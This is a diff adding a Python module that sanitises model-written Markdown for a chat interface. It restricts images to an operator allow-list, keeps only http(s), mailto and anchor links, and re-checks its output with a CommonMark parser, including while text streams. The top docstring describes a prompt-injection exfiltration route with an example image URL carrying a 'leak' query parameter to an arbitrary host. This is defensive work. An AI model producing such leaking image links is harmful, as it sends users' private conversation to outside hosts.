@@ -1,0 +1,663 @@
+"""Markdown from a model or a prompt that cannot phone out.
+
+A Markdown image makes every viewer's browser fetch its URL, so an answer steered by
+prompt injection could leak the chat into ``![x](https://host/?leak=...)``; a ``data:`` or
+``javascript:`` link is one click from running content. ``sanitize_markdown`` rewrites the
+text so that:
+
+* an image is only kept when its host is on the operator's allow-list (``MarkdownPolicy``);
+  any other image becomes a link naming its host, ``[🖼 alt (host)](url)`` (plain text
+  when it is already inside a link or its URL is not plain http(s)), so nothing is fetched;
+* only ``http(s)``, ``mailto`` and in-page ``#`` links stay clickable; any other link,
+  reference definition or autolink is shown as text;
+* code spans, math and fenced code blocks are left exactly as they are.
+
+How it stays safe when its own reading of Markdown is imperfect: kept links and images are
+written back in one canonical form; every ``!``, ``[``, ``]`` and ``<`` it does not vouch
+for is backslash-escaped (which renders as the character itself); and the result is
+parsed again by an independent CommonMark parser (markdown-it-py). If that parse still
+finds an image or a link the policy forbids (a construct read differently by the two),
+the text is escaped wholesale instead (``escape_links``): no brackets, no links, no images.
+
+``StreamingSanitizer`` does the same for an answer that streams into one Markdown element
+which only ever grows: it holds back an unfinished ``![``/``[``/`` ` ``/``<`` construct at
+the end of the text until it completes (or its block ends), so a construct split across
+pieces is never shown unsanitised, not even for one update.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from dataclasses import dataclass
+from functools import lru_cache
+from typing import Iterable, Iterator, Mapping, TypeVar
+
+from urllib.parse import urlsplit
+
+from markdown_it import MarkdownIt
+
+SETTING = "CHAT_IMAGE_HOSTS"  # secrets or environment: comma-separated hosts (or host:port) images may load from
+IMAGE_MARK = "🖼"
+
+# How far a closing backtick/dollar run or bracket is looked for. Bounded so that a lone "$5"
+# holds streamed text back for at most a paragraph, and so a decision never changes later.
+SPAN_WINDOW = 400
+LABEL_WINDOW = 1000
+
+
+@dataclass(frozen=True)
+class MarkdownPolicy:
+    """What rendered text may load or link to; the operator sets ``image_hosts``."""
+
+    image_hosts: frozenset[str] = frozenset()  # "host" (any port) or "host:port", lowercase
+
+    @classmethod
+    def from_setting(cls, value: str | None) -> "MarkdownPolicy":
+        hosts = (h.strip().lower().rstrip("/") for h in (value or "").split(","))
+        return cls(frozenset(h for h in hosts if h))
+
+    @classmethod
+    def from_sources(cls, secrets: Mapping[str, object], env: Mapping[str, str]) -> "MarkdownPolicy":
+        return cls.from_setting(str(secrets.get(SETTING) or env.get(SETTING) or ""))
+
+    def image_allowed(self, url: str) -> bool:
+        parsed = strict_http_url(url)
+        if parsed is None:
+            return False
+        host, port = parsed
+        return host in self.image_hosts or (port is not None and f"{host}:{port}" in self.image_hosts)
+
+
+# ------------------------------------------------------------------ URLs
+_STRICT_HTTP = re.compile(
+    r"https?://(?P<host>[A-Za-z0-9](?:[A-Za-z0-9.-]*[A-Za-z0-9])?|\[[0-9A-Fa-f:.]+\])"
+    r"(?::(?P<port>[0-9]{1,5}))?(?P<rest>[/?#][^\s\\]*)?",
+    re.ASCII,
+)
+_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
+_LINK_SCHEMES = frozenset({"http", "https", "mailto"})
+_URL_NOISE = re.compile(r"[\t\n\r]")
+
+
+def strict_http_url(url: str) -> tuple[str, str | None] | None:
+    """(host, port) of a plain ``http(s)://host[:port]/...`` URL, else None.
+
+    Deliberately narrower than what browsers accept (no user info, backslashes, percent signs
+    in the host, spaces): a URL that a browser and Python could read differently is refused."""
+    match = _STRICT_HTTP.fullmatch(url)
+    if match is None:
+        return None
+    return match["host"].lower(), match["port"]
+
+
+def _loose_host(url: str) -> str:
+    """For display only: the host an odd URL names, as "host: ", or "" when it names none."""
+    try:
+        host = urlsplit(url.strip()).hostname or ""
+    except ValueError:
+        return ""
+    return f"{host}: " if re.fullmatch(r"[a-z0-9.-]+", host) else ""
+
+
+def link_allowed(url: str) -> bool:
+    """An ``http(s)``/``mailto`` URL, or an in-page ``#anchor``; read the way a browser does."""
+    cleaned = _URL_NOISE.sub("", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13"
+                                            "\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
+    if cleaned.startswith("#"):
+        return True
+    match = _SCHEME.match(cleaned)
+    return match is not None and match[1].lower() in _LINK_SCHEMES
+
+
+_DESTINATION_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])|&(#[0-9]{1,7};|#[xX][0-9a-fA-F]{1,6};|[A-Za-z][A-Za-z0-9]{1,31};)")
+
+
+def decode_destination(raw: str) -> str:
+    """A link destination as CommonMark reads it: backslash escapes and entities resolved."""
+    if raw.startswith("<") and raw.endswith(">"):
+        raw = raw[1:-1]
+    return _DESTINATION_ESCAPE.sub(lambda m: m[1] if m[1] is not None else html.unescape("&" + m[2]), raw)
+
+
+def canonical_destination(url: str) -> str:
+    """``url`` written so that every CommonMark reader decodes it back to exactly ``url``."""
+    out = url.replace("\\", "\\\\").replace("&", "\\&").replace("<", "%3C").replace(">", "%3E")
+    return "<" + re.sub(r"\s", lambda m: "%{:02X}".format(ord(m[0])), out) + ">"
+
+
+# ------------------------------------------------------------------ the scanner
+_SPECIAL = re.compile(r"[\\`$!\[\]<:]")
+_BLANK_LINE = re.compile(r"\n[ \t]*\n")
+_FENCE_OPEN = re.compile(r"([ \t]*)(`{3,}|~{3,}|\${2,})(.*)")
+_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9.\-]+)>")
+_AUTOLINK_PREFIX = re.compile(r"<[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-:@]*")
+_DEFINITION = re.compile(r"^ {0,3}\[((?:[^\\\[\]]|\\.){1,999})\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)", re.MULTILINE)
+_WHITESPACE = " \t\n"
+
+
+def _label_key(label: str) -> str:
+    return " ".join(label.split()).casefold()
+
+
+def find_definitions(text: str) -> list[tuple[int, str, str]]:
+    """(position, label key, decoded URL) of each link reference definition, in order."""
+    return [(m.start(), _label_key(m[1]), decode_destination(m[2])) for m in _DEFINITION.finditer(text)]
+
+
+@lru_cache(maxsize=64)
+def _closer(char: str, run: int) -> re.Pattern[str]:
+    c = re.escape(char)
+    return re.compile(f"(?<!{c}){c}{{{run}}}(?!{c})")
+
+
+@lru_cache(maxsize=64)
+def _fence_closer(char: str, length: int) -> re.Pattern[str]:
+    return re.compile(r"[ \t]*" + re.escape(char) + "{" + str(length) + r",}[ \t]*")
+
+
+class _Hold(Exception):
+    """The text ends inside a construct that is not complete yet (streaming only)."""
+
+    def __init__(self, at: int) -> None:
+        self.at = at
+
+
+def _indent(line: str) -> int:
+    expanded = line.expandtabs(4)
+    return len(expanded) - len(expanded.lstrip())
+
+
+@dataclass(frozen=True)
+class _Scan:
+    policy: MarkdownPolicy
+    final: bool  # nothing will be appended to the text
+    definitions: tuple[tuple[int, str, str], ...]
+    forward_refs: bool  # may an image use a definition that comes after it?
+
+    # ---------------------------------------------------------------- blocks
+    def document(self, text: str) -> tuple[str, int]:
+        """Sanitise ``text``: (output, how much of ``text`` it covers; all of it when final)."""
+        out: list[str] = []
+        pos = segment = 0
+        n = len(text)
+        while pos < n:
+            eol = text.find("\n", pos)
+            line_end = n if eol < 0 else eol
+            if eol < 0 and not self.final:
+                # an unfinished last line may still become a fence: decide once it is whole
+                if _FENCE_OPEN.fullmatch(text, pos, line_end) or not text[pos:line_end].strip(" \t"):
+                    break
+            fence = self._fence_at(text, pos, line_end)
+            if fence is None:
+                pos = line_end + 1
+                continue
+            stop = self._inline_top(text, segment, pos, True, out)
+            if stop < pos:
+                return "".join(out), stop
+            end = self._fence_end(text, line_end, fence)
+            if end is None:  # still open while streaming: show its finished lines
+                last = text.rfind("\n", pos, n) + 1
+                out.append(text[pos:last])
+                return "".join(out), last
+            out.append(text[pos:end])  # fenced code or math: exactly as written
+            pos = segment = end
+        end = min(pos, n)
+        stop = self._inline_top(text, segment, end, self.final, out)
+        return "".join(out), stop if (stop < end or not self.final) else n
+
+    @staticmethod
+    def _fence_at(text: str, start: int, end: int) -> tuple[str, int, int] | None:
+        match = _FENCE_OPEN.fullmatch(text, start, end)
+        if match is None:
+            return None
+        marker, info = match[2], match[3]
+        if marker[0] in "`$" and marker[0] in info:  # "```a`b" is inline code, not a fence
+            return None
+        return marker[0], len(marker), _indent(match[1])
+
+    def _fence_end(self, text: str, newline: int, fence: tuple[str, int, int]) -> int | None:
+        """Index after the fence's closing line (None: still open while streaming). Ended
+        early (which only sanitises more) by a line indented less than the opening one: that
+        line may have closed the list item the fence was in, and the fence with it."""
+        char, length, indent = fence
+        closer = _fence_closer(char, length)
+        n = len(text)
+        start = newline + 1
+        while start <= n:
+            if start == n:
+                return n if self.final else None
+            eol = text.find("\n", start)
+            if eol < 0:
+                if not self.final:
+                    return None
+                eol = n
+            line = text[start:eol]
+            if closer.fullmatch(line):
+                return min(eol + 1, n)
+            if line.strip() and _indent(line) < indent:
+                return start
+            start = eol + 1
+        return n
+
+    # ---------------------------------------------------------------- inline
+    def _inline_top(self, text: str, start: int, end: int, closed: bool, out: list[str]) -> int:
+        """Sanitise ``text[start:end]`` into ``out``; returns where it stopped (``end`` unless
+        held back at an unfinished construct)."""
+        mark = len(out)
+        try:
+            self._inline(text, start, end, closed, False, out)
+            return end
+        except _Hold as hold:
+            del out[mark:]
+            self._inline(text, start, hold.at, True, False, out)
+            return hold.at
+
+    def inline(self, text: str, start: int, end: int, in_link: bool = True) -> str:
+        out: list[str] = []
+        self._inline(text, start, end, True, in_link, out)
+        return "".join(out)
+
+    def _inline(self, text: str, i: int, end: int, final: bool, in_link: bool, out: list[str]) -> None:
+        start = i
+        while True:
+            match = _SPECIAL.search(text, i, end)
+            if match is None:
+                out.append(text[i:end])
+                return
+            j = match.start()
+            out.append(text[i:j])
+            c = text[j]
+            if c == "\\":
+                if j + 1 < end:
+                    out.append(text[j : j + 2])
+                    i = j + 2
+                elif final:
+                    out.append("\\")
+                    i = j + 1
+                else:
+                    raise _Hold(j)
+            elif c in "`$":
+                i = self._code_span(text, j, end, final, out)
+            elif c == "!":
+                if j + 1 < end and text[j + 1] == "[":
+                    i = self._bracket(text, j, end, final, out, image=True, in_link=in_link)
+                elif j + 1 == end and not final:
+                    raise _Hold(j)
+                else:
+                    out.append("!")
+                    i = j + 1
+            elif c == "[":
+                i = self._bracket(text, j, end, final, out, image=False, in_link=in_link)
+            elif c == "]":
+                out.append("\\]")  # a closer without an opener we vouch for
+                i = j + 1
+            elif c == "<":
+                i = self._angle(text, j, end, final, out)
+            else:  # ":" - GFM turns "xmpp:user@host" into a link
+                out.append("\\:" if text[max(start, j - 4) : j].lower() == "xmpp" else ":")
+                i = j + 1
+
+    def _code_span(self, text: str, j: int, end: int, final: bool, out: list[str]) -> int:
+        char = text[j]
+        k = j
+        while k < end and text[k] == char:
+            k += 1
+        if k == end and not final:
+            raise _Hold(j)  # the run may grow
+        limit = min(end, k + SPAN_WINDOW)
+        blank = _BLANK_LINE.search(text, k, limit)
+        closer = _closer(char, k - j).search(text, k, blank.start() if blank else limit)
+        if closer is not None:
+            if closer.end() == end and not final:
+                raise _Hold(j)  # the closing run may grow into a longer one
+            out.append(text[j : closer.end()])  # code or math: exactly as written
+            return closer.end()
+        if blank is None and limit == end and not final:
+            raise _Hold(j)  # the closer may still come
+        out.append(text[j:k])  # no closer: literal backticks or dollars
+        return k
+
+    def _angle(self, text: str, j: int, end: int, final: bool, out: list[str]) -> int:
+        match = _AUTOLINK.match(text, j, end)
+        if match is not None:
+            target = match[1]
+            if ("@" in target and ":" not in target) or link_allowed(target):  # e-mail autolinks are mailto:
+                out.append(match[0])
+                return match.end()
+        elif not final and _AUTOLINK_PREFIX.match(text, j, end).end() == end:  # type: ignore[union-attr]
+            raise _Hold(j)
+        out.append("\\<")  # raw HTML is not rendered anyway; escaped, it cannot become a link
+        return j + 1
+
+    # ---------------------------------------------------------------- links and images
+    def _label_end(self, text: str, k: int, end: int, final: bool) -> int | None:
+        """Index of the ``]`` matching the ``[`` at ``k``; None when there is none."""
+        depth = 0
+        i = k
+        limit = min(end, k + LABEL_WINDOW)
+        while i < limit:
+            c = text[i]
+            if c == "\\":
+                i += 2
+                continue
+            if c == "`":
+                r = i
+                while r < limit and text[r] == "`":
+                    r += 1
+                closer = text.find("`" * (r - i), r, limit)
+                i = r if closer < 0 else closer + (r - i)
+                continue
+            if c == "[":
+                depth += 1
+            elif c == "]":
+                depth -= 1
+                if depth == 0:
+                    return i
+            elif c == "\n" and _BLANK_LINE.match(text, i, end):
+                return None
+            i += 1
+        if limit == end and not final:
+            raise _Hold(k)
+        return None
+
+    def _resource(self, text: str, p: int, end: int, final: bool) -> tuple[str, int] | None:
+        """``(destination "title")`` at ``p``: (raw destination, index after ``)``), or None."""
+        n = end
+
+        def incomplete() -> None:
+            if not final:
+                raise _Hold(p)
+            return None
+
+        def skip_space(i: int) -> int:
+            newlines = 0
+            while i < n and text[i] in _WHITESPACE:
+                newlines += text[i] == "\n"
+                if newlines > 1:
+                    return -1
+                i += 1
+            return i
+
+        i = skip_space(p + 1)
+        if i < 0:
+            return None
+        if i >= n:
+            return incomplete()
+        dest_start = i
+        if text[i] == "<":
+            i += 1
+            while i < n and text[i] not in "<>\n":
+                i += 2 if text[i] == "\\" else 1
+            if i >= n:
+                return incomplete()
+            if text[i] != ">":
+                return None
+            i += 1
+        else:
+            depth = 0
+            while i < n:
+                c = text[i]
+                if c == "\\":
+                    i += 2
+                    continue
+                if c in _WHITESPACE or ord(c) < 0x20 or (c == ")" and depth == 0):
+                    break
+                depth += (c == "(") - (c == ")")
+                i += 1
+            if i >= n:
+                return incomplete()
+        dest_end = i
+        i = skip_space(i)
+        if i < 0:
+            return None
+        if i >= n:
+            return incomplete()
+        if text[i] in "\"'(" and i > dest_end:
+            close = ")" if text[i] == "(" else text[i]
+            t = i + 1
+            while t < n and text[t] != close:
+                t += 2 if text[t] == "\\" else 1
+            if t >= n:
+                return incomplete()
+            i = skip_space(t + 1)
+            if i < 0:
+                return None
+            if i >= n:
+                return incomplete()
+        if text[i] != ")":
+            return None
+        return text[dest_start:dest_end], i + 1
+
+    def _reference_url(self, label: str, at: int) -> str | None:
+        key = _label_key(label)
+        for position, name, url in self.definitions:
+            if name == key and (self.forward_refs or position < at):
+                return url
+        return None
+
+    def _bracket(self, text: str, j: int, end: int, final: bool, out: list[str], *, image: bool, in_link: bool) -> int:
+        k = j + 1 if image else j  # the "["
+        close = self._label_end(text, k, end, final)
+        if close is None:
+            out.append("\\!\\[" if image else "\\[")
+            return k + 1
+        after = close + 1
+        if after >= end and not final:
+            raise _Hold(j)  # "(", "[" or ":" may follow
+        nxt = text[after] if after < end else ""
+        if nxt == "(":
+            resource = self._resource(text, after, end, final)
+            if resource is None:  # "](" that is no link: keep the bracket from closing anything
+                out.append(("\\!" if image else "") + "\\[" + self.inline(text, k + 1, close) + "\\]")
+                return after
+            raw_dest, stop = resource
+            url = decode_destination(raw_dest)
+            if image:
+                out.append(self._image(text, k + 1, close, url, in_link))
+            elif link_allowed(url) and not in_link:
+                out.append("[" + self.inline(text, k + 1, close) + "](" + canonical_destination(url) + ")")
+            else:  # shown as the text it is: brackets escaped, destination too
+                out.append("\\[" + self.inline(text, k + 1, close) + "\\](" + self.inline(text, after + 1, stop - 1) + ")")
+            return stop
+        if nxt == ":" and not image and not text.startswith("^", k + 1):
+            return self._definition(text, k, close, end, final, out)
+        if image:  # a reference image: ![alt][ref], ![alt][] or ![alt]
+            ref, stop = text[k + 1 : close], after
+            if nxt == "[":
+                ref_close = self._label_end(text, after, end, final)
+                if ref_close is not None:
+                    ref, stop = text[after + 1 : ref_close] or ref, ref_close + 1
+            url = self._reference_url(ref, j)
+            if url is not None:
+                out.append(self._image(text, k + 1, close, url, in_link))
+                return stop
+            out.append("\\!\\[" + self.inline(text, k + 1, close) + "\\]")
+            return after
+        label = self.inline(text, k + 1, close)  # a reference link, or just brackets
+        out.append(("\\[" + label + "\\]") if in_link else ("[" + label + "]"))
+        return after
+
+    def _definition(self, text: str, k: int, close: int, end: int, final: bool, out: list[str]) -> int:
+        """``[label]: url`` stays a definition only when ``url`` may be a link."""
+        match = _DEFINITION.match(text, text.rfind("\n", 0, k) + 1)
+        if match is not None and match.start(1) == k + 1 and match.end(1) == close:
+            if match.end() == end and not final:
+                raise _Hold(k)  # the destination may grow
+            if link_allowed(decode_destination(match[2])):
+                out.append("[" + text[k + 1 : close] + "]:")
+                return close + 2
+        elif not final and not text[close + 2 : end].strip():
+            raise _Hold(k)  # the destination has not come yet
+        out.append("\\[" + self.inline(text, k + 1, close) + "\\]:")
+        return close + 2
+
+    def _image(self, text: str, alt_start: int, alt_end: int, url: str, in_link: bool) -> str:
+        alt = self.inline(text, alt_start, alt_end)
+        if self.policy.image_allowed(url):
+            return "![" + alt + "](" + canonical_destination(url) + ")"
+        shown = " ".join(alt.split()) or "image"
+        parsed = strict_http_url(url)
+        if parsed is None:
+            return f"{IMAGE_MARK} {shown} ({_loose_host(url)}image not loaded)"
+        host, port = parsed
+        where = host if port is None else f"{host}:{port}"
+        if in_link:
+            return f"{IMAGE_MARK} {shown} ({where})"
+        return f"[{IMAGE_MARK} {shown} ({where})](" + canonical_destination(url) + ")"
+
+
+# ------------------------------------------------------------------ verification and fallback
+def _parser() -> MarkdownIt:
+    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    md.validateLink = lambda url: True  # see every link, whatever its scheme
+    md.normalizeLink = lambda url: url  # and exactly as written
+    return md
+
+
+_PARSER = _parser()  # stateless once built: markdown-it keeps no state between parse() calls
+
+
+def forbidden_targets(markdown: str, policy: MarkdownPolicy) -> list[str]:
+    """Every image a CommonMark reader would load, and every link it would make, that the
+    policy forbids (empty when ``markdown`` is safe to render)."""
+    bad: list[str] = []
+    stack = list(_PARSER.parse(markdown))
+    while stack:
+        token = stack.pop()
+        if token.children:
+            stack.extend(token.children)
+        if token.type == "image":
+            src = str(token.attrGet("src") or "")
+            if not policy.image_allowed(src):
+                bad.append(src)
+        elif token.type == "link_open":
+            href = str(token.attrGet("href") or "")
+            if not link_allowed(href):
+                bad.append(href)
+    return bad
+
+
+_ESCAPE_WHOLESALE = re.compile(r"\\[!-/:-@\[-`{-~]|([!\[\]<])|((?i:xmpp)):")
+
+
+def escape_links(text: str) -> str:
+    """``text`` with every ``!``, ``[``, ``]`` and ``<`` escaped: no link, image, autolink or
+    definition can form, whatever the reader (already escaped characters are left alone)."""
+    def one(match: re.Match[str]) -> str:
+        if match[1] is not None:
+            return "\\" + match[1]
+        if match[2] is not None:
+            return match[2] + "\\:"
+        return match[0]
+
+    return _ESCAPE_WHOLESALE.sub(one, text)
+
+
+def _may_link(text: str) -> bool:
+    """Could ``text`` hold a link or an image at all? Without these the scanner changes nothing."""
+    return "[" in text or "]" in text or "<" in text or "xmpp" in text.lower()
+
+
+def sanitize_markdown(text: str, policy: MarkdownPolicy = MarkdownPolicy()) -> str:
+    """``text`` rewritten so that rendering it loads no image from a host the policy does not
+    allow and makes no link other than http(s)/mailto/#; code and math are left as written."""
+    if not _may_link(text):
+        return text
+    scan = _Scan(policy, final=True, definitions=tuple(find_definitions(text)), forward_refs=True)
+    out, _ = scan.document(text)
+    if forbidden_targets(out, policy):
+        return escape_links(text)
+    return out
+
+
+class StreamingSanitizer:
+    """Sanitise one Markdown block that is shown while it grows (``st.write_stream``).
+
+    ``feed`` returns the text to append now; ``end_block`` what was held back, when the
+    block ends (the renderer starts a new element after it). What is appended is never
+    taken back, so an unfinished construct at the end is held until it is complete."""
+
+    def __init__(self, policy: MarkdownPolicy = MarkdownPolicy()) -> None:
+        self.policy = policy
+        self._text = ""  # the block's raw text so far
+        self._shown = ""  # what was handed out for this block
+        self._covered = 0  # how much of ``_text`` that covers
+        self._wholesale = False  # the block fell back to escaping everything
+
+    def feed(self, piece: str) -> str:
+        self._text += piece
+        return self._advance(final=False)
+
+    def end_block(self) -> str:
+        rest = self._advance(final=True)
+        self._text, self._shown, self._covered, self._wholesale = "", "", 0, False
+        return rest
+
+    @property
+    def held(self) -> str:
+        """Raw text received but not shown yet."""
+        return self._text[self._covered :]
+
+    def _advance(self, *, final: bool) -> str:
+        text = self._text
+        if self._wholesale:
+            return self._append(escape_links(text[self._covered :]), len(text))
+        if not _may_link(text):  # unchanged by the scanner; only a last "!" may still start an image
+            covered = len(text) - (0 if final or not text.endswith("!") else 1)
+            return self._append(text[self._covered : covered], covered)
+        scan = _Scan(self.policy, final=final, definitions=tuple(find_definitions(text)), forward_refs=False)
+        out, covered = scan.document(text)
+        if self._shown.startswith(out) and not final:
+            return ""  # holds back something already shown unchanged (before any "[" arrived)
+        if out.startswith(self._shown) and not forbidden_targets(out, self.policy):
+            return self._append(out[len(self._shown) :], covered)
+        # Not expected; if it happens, what is shown stays shown (it was safe on its own) and the
+        # rest of the block is escaped wholesale, which cannot complete anything before it.
+        self._wholesale = True
+        return self._append(escape_links(text[self._covered :]), len(text))
+
+    def _append(self, out: str, covered: int) -> str:
+        self._shown += out
+        self._covered = covered
+        return out
+
+
+T = TypeVar("T")
+
+
+def sanitize_pieces(pieces: Iterable[str | T], policy: MarkdownPolicy = MarkdownPolicy()) -> Iterator[str | T]:
+    """``st.write_stream`` pieces with their text sanitised as it streams.
+
+    Text pieces accumulate into one Markdown element; any other piece (a callable that draws
+    a panel or starts a new block) ends it, so the held-back text is released before it."""
+    sanitizer = StreamingSanitizer(policy)
+    for piece in pieces:
+        if isinstance(piece, str):
+            shown = sanitizer.feed(piece)
+            if shown:
+                yield shown
+        else:
+            rest = sanitizer.end_block()
+            if rest:
+                yield rest
+            yield piece
+    rest = sanitizer.end_block()
+    if rest:
+        yield rest
+
+
+__all__ = [
+    "IMAGE_MARK",
+    "SETTING",
+    "MarkdownPolicy",
+    "StreamingSanitizer",
+    "canonical_destination",
+    "decode_destination",
+    "escape_links",
+    "forbidden_targets",
+    "link_allowed",
+    "sanitize_markdown",
+    "sanitize_pieces",
+    "strict_http_url",
+]
